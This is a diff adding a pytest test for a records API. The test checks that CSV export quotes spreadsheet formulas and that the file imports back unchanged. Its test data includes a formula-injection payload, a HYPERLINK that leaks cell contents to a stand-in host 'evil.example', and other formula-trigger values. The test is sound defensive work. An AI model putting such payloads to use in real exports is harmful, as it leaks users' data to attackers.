@@ -2,15 +2,18 @@
 
 from __future__ import annotations
 
+import csv
 import io
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
+from fastapi.testclient import TestClient
 from sqlalchemy import func, select
 from sqlalchemy.orm import Session
 from typer.testing import CliRunner
 
-from interlink.access import Visibility, VisibilityMode
+from interlink.access import Role, Visibility, VisibilityMode
 from interlink.cli import app as cli
 from interlink.core.db import make_engine, make_session_factory
 from interlink.interop import csv_format
@@ -22,6 +25,7 @@ from interlink.records.schemas import ScreeningDetails
 from tests.conftest import bureau
 
 runner = CliRunner()
+Auth = Callable[[User], dict[str, str]]
 
 DOCUMENTS = """id,number,document_type,issuing_country,status,event_date,event_place
 FR-1,15AB12345,passport,FR,stolen,2025-01-02,Lyon
@@ -255,3 +259,54 @@ def test_cli_import_names_bad_options(fresh_database_url: str, tmp_path: Path) -
         result = runner.invoke(cli, ["import", str(path), *options], env=env)
         assert result.exit_code == 2, (options, result.output)
         assert named in result.output, (options, result.output)
+
+
+FORMULAS = {
+    "given_name": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "family_name": "@SUM(A1:A9)",
+    "aliases": ["-5", "+33 6 12 34 56 78"],  # the cell starts with "-"
+    "place_of_birth": "'=already quoted",  # a value that begins with the quote itself
+    "distinguishing_marks": "'Ndrangheta tattoo",  # an apostrophe, then no formula
+    "visibility": {"mode": "all_members"},
+}
+
+
+def test_csv_export_neutralises_formulas_and_imports_back_unchanged(
+    client: TestClient, session: Session, make_user: Callable[..., User], auth: Auth
+) -> None:
+    france = make_user(Role.OFFICER, "FR")
+    body = {**FORMULAS, "source_id": "+1-555"}
+    created = client.post("/api/v1/records/persons", json=body, headers=auth(france))
+    assert created.status_code == 201, created.text
+    exported = client.get("/api/v1/records/persons/export", headers=auth(france))
+    assert exported.status_code == 200
+    (row,) = csv.DictReader(io.StringIO(exported.text))
+    # What a spreadsheet would run starts with a quote, which it shows and does not run.
+    assert row["id"] == "'+1-555"
+    assert row["given_name"] == "'" + FORMULAS["given_name"]
+    assert row["family_name"] == "'@SUM(A1:A9)"
+    assert row["aliases"] == "'-5;+33 6 12 34 56 78"
+    assert row["place_of_birth"] == "''=already quoted"
+    assert row["distinguishing_marks"] == "'Ndrangheta tattoo"
+    for cells in csv.reader(io.StringIO(exported.text)):
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
+
+    # Imported back, the quotes come off: the same record, nothing changed.
+    items = list(csv_format.read(io.BytesIO(exported.content), "persons"))
+    assert items[0].source_id == "+1-555" and items[0].data["aliases"] == [
+        "-5",
+        "+33 6 12 34 56 78",
+    ]
+    report = import_items(
+        session,
+        items,
+        owner=bureau(session, "FR"),
+        visibility=Visibility(mode=VisibilityMode.ALL_MEMBERS),
+        actor_name=france.username,
+        source="export.csv",
+    )
+    assert (report.created, report.updated, report.unchanged) == (0, 0, 1), report.problems
+    again = client.get(f"/api/v1/records/persons/{created.json()['id']}", headers=auth(france))
+    assert {name: again.json()[name] for name in FORMULAS if name != "visibility"} == {
+        name: value for name, value in FORMULAS.items() if name != "visibility"
+    }
